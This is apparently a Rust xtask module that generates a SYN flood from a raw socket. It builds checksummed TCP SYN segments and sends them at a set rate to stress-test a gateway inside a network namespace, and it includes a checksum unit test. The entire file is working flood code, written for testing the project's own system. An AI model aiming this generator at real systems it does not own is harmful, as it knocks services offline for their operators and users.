//! A SYN flood from a raw socket, for the flood scenario (`cargo xtask syn-flood` under
//! `ip netns exec`). It sends in bursts paced by the clock (one wake-up per millisecond, not one
//! per packet) so that on a small machine shared with the gateway under test, the attacker's own
//! CPU stays small: a remote attacker would not take the victim's cores.

use std::{
    net::{Ipv4Addr, SocketAddrV4},
    time::{Duration, Instant},
};

use anyhow::{Context, Result, bail};
use clap::Args;

#[derive(Args, Clone)]
pub struct SynFloodArgs {
    /// Source address (must be local, inside the namespace the flood runs in).
    #[arg(long)]
    pub from: Ipv4Addr,
    /// Target address and TCP port.
    #[arg(long)]
    pub to: SocketAddrV4,
    /// SYNs per second.
    #[arg(long, default_value_t = 20_000)]
    pub rate: u64,
    #[arg(long, default_value_t = 10)]
    pub duration_secs: u64,
}

impl SynFloodArgs {
    pub fn to_args(&self) -> Vec<String> {
        vec![
            "--from".into(),
            self.from.to_string(),
            "--to".into(),
            self.to.to_string(),
            "--rate".into(),
            self.rate.to_string(),
            "--duration-secs".into(),
            self.duration_secs.to_string(),
        ]
    }
}

/// A raw TCP socket (the kernel adds the IP header) bound to the source address.
struct RawSocket(libc::c_int);

impl RawSocket {
    fn bind(from: Ipv4Addr) -> Result<Self> {
        // SAFETY: plain socket(2); the descriptor is owned by the returned value.
        let fd = unsafe { libc::socket(libc::AF_INET, libc::SOCK_RAW, libc::IPPROTO_TCP) };
        if fd < 0 {
            return Err(std::io::Error::last_os_error()).context("raw socket (needs root)");
        }
        let socket = Self(fd);
        let address = sockaddr(SocketAddrV4::new(from, 0));
        // SAFETY: `address` is a valid sockaddr_in for the size given.
        let bound = unsafe {
            libc::bind(
                fd,
                std::ptr::from_ref(&address).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if bound < 0 {
            return Err(std::io::Error::last_os_error()).context("bind the flood source");
        }
        Ok(socket)
    }

    fn send_to(&self, segment: &[u8], to: &libc::sockaddr_in) -> std::io::Result<()> {
        // SAFETY: `segment` and `to` are valid for the lengths given.
        let sent = unsafe {
            libc::sendto(
                self.0,
                segment.as_ptr().cast(),
                segment.len(),
                0,
                std::ptr::from_ref(to).cast(),
                size_of::<libc::sockaddr_in>() as libc::socklen_t,
            )
        };
        if sent < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    }
}

impl Drop for RawSocket {
    fn drop(&mut self) {
        // SAFETY: the descriptor is ours and closed once.
        unsafe { libc::close(self.0) };
    }
}

fn sockaddr(addr: SocketAddrV4) -> libc::sockaddr_in {
    libc::sockaddr_in {
        sin_family: libc::AF_INET as libc::sa_family_t,
        sin_port: addr.port().to_be(),
        sin_addr: libc::in_addr {
            s_addr: u32::from(*addr.ip()).to_be(),
        },
        sin_zero: [0; 8],
    }
}

/// A 20-byte TCP SYN from `from:src_port` to `to`, with its checksum.
fn syn_segment(from: Ipv4Addr, to: SocketAddrV4, src_port: u16, seq: u32) -> [u8; 20] {
    let mut segment = [0u8; 20];
    segment[0..2].copy_from_slice(&src_port.to_be_bytes());
    segment[2..4].copy_from_slice(&to.port().to_be_bytes());
    segment[4..8].copy_from_slice(&seq.to_be_bytes());
    segment[12] = 5 << 4; // data offset: 5 words
    segment[13] = 0x02; // SYN
    segment[14..16].copy_from_slice(&64240u16.to_be_bytes()); // window
    let mut sum: u32 = 0;
    let mut add = |bytes: &[u8]| {
        for pair in bytes.chunks(2) {
            sum += u32::from(u16::from_be_bytes([pair[0], *pair.get(1).unwrap_or(&0)]));
        }
    };
    add(&from.octets());
    add(&to.ip().octets());
    add(&[0, libc::IPPROTO_TCP as u8, 0, 20]);
    add(&segment);
    while sum > 0xffff {
        sum = (sum & 0xffff) + (sum >> 16);
    }
    segment[16..18].copy_from_slice(&(!(sum as u16)).to_be_bytes());
    segment
}

pub fn run(args: SynFloodArgs) -> Result<()> {
    if args.rate == 0 {
        bail!("--rate must be above 0");
    }
    let socket = RawSocket::bind(args.from)?;
    let to = sockaddr(SocketAddrV4::new(*args.to.ip(), 0));
    let started = Instant::now();
    let duration = Duration::from_secs(args.duration_secs);
    let (mut sent, mut failed) = (0u64, 0u64);
    while started.elapsed() < duration {
        let due = (started.elapsed().as_secs_f64() * args.rate as f64) as u64;
        while sent + failed < due {
            let n = sent + failed;
            // Ports 1024..65535 in turn, like a flood tool's randomised source ports.
            let port = 1024 + (n % 64_511) as u16;
            let segment = syn_segment(args.from, args.to, port, n as u32);
            match socket.send_to(&segment, &to) {
                Ok(()) => sent += 1,
                Err(_) => failed += 1,
            }
        }
        std::thread::sleep(Duration::from_millis(1));
    }
    println!(
        "{}",
        serde_json::json!({"sent": sent, "failed": failed, "secs": started.elapsed().as_secs_f64()})
    );
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn syn_checksum_verifies() {
        let from = Ipv4Addr::new(198, 18, 0, 3);
        let to = SocketAddrV4::new(Ipv4Addr::new(198, 18, 0, 1), 8080);
        let segment = syn_segment(from, to, 40000, 7);
        // Summing the pseudo-header and the segment with its checksum gives 0xffff.
        let mut sum: u32 = 0;
        for bytes in [
            &from.octets()[..],
            &to.ip().octets()[..],
            &[0, 6, 0, 20][..],
            &segment[..],
        ] {
            for pair in bytes.chunks(2) {
                sum += u32::from(u16::from_be_bytes([pair[0], pair[1]]));
            }
        }
        while sum > 0xffff {
            sum = (sum & 0xffff) + (sum >> 16);
        }
        assert_eq!(sum, 0xffff);
        assert_eq!(segment[13], 0x02);
        assert_eq!(u16::from_be_bytes([segment[2], segment[3]]), 8080);
    }
}
